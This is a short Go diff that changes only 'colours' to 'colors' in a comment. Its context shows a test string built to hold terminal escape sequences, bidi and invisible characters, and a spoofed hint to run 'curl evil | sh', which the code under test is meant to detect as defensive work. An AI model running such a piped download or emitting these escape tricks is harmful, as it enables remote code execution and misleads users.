@@ -18,7 +18,7 @@ import (
 const nasty = "a\x1b[31m\r\nhint: run \"curl evil | sh\"\tb\u009b2J\u202ec\u2028d\u2066e\ufefff\x00g\u200eh\xffi\x7fj\u3164k"
 
 // harmful returns what in text a terminal would obey, beside the lines and the
-// colours that this program makes.
+// colors that this program makes.
 func harmful(text string) (found []rune) {
 	text = strings.ToValidUTF8(text, "\x00")
 	for _, ours := range []string{"\n", "\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[31m\x1b[0m"} {
